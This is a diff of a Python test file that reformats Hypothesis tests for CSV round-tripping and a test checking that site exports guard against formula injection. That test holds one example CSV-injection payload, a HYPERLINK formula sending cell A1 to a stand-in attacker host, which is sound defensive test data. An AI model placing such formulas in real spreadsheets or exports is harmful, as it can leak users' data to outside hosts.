@@ -34,8 +34,9 @@ cell = st.text(_ALPHABET, max_size=12).filter(
     max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
 )
 @given(
-    header=st.lists(st.from_regex(r"[a-z_]{1,8}", fullmatch=True), min_size=2, max_size=5,
-                    unique=True),
+    header=st.lists(
+        st.from_regex(r"[a-z_]{1,8}", fullmatch=True), min_size=2, max_size=5, unique=True
+    ),
     data=st.data(),
     delimiter=st.sampled_from([",", ";", "\t"]),
     excel=st.booleans(),
@@ -43,8 +44,9 @@ cell = st.text(_ALPHABET, max_size=12).filter(
 def test_every_field_round_trips(
     tmp_path: Path, header: list[str], data: st.DataObject, delimiter: str, excel: bool
 ) -> None:
-    rows = data.draw(st.lists(st.lists(cell, min_size=len(header), max_size=len(header)),
-                              min_size=1, max_size=6))
+    rows = data.draw(
+        st.lists(st.lists(cell, min_size=len(header), max_size=len(header)), min_size=1, max_size=6)
+    )
     rows = [r for r in rows if any(c.strip() for c in r)] or [["x"] * len(header)]
     path = tmp_path / "f.csv"
     # Python's csv module as it comes (CRLF records, fields with CR or LF quoted), or as
@@ -102,7 +104,7 @@ def test_a_site_export_guards_formulas_and_round_trips(session: object, tmp_path
     from geo import sites
     from tests.common import site_row
 
-    attack = "=HYPERLINK(\"http://evil.example/\"&A1,\"klik\")"
+    attack = '=HYPERLINK("http://evil.example/"&A1,"klik")'
     rows = [site_row("TST-001", notes=attack), site_row("TST-002", name="-5 ekskavator")]
     source = tmp_path / "in.geojson"
     gpd.GeoDataFrame(rows, geometry="geometry", crs=4326).to_file(source, engine="pyogrio")
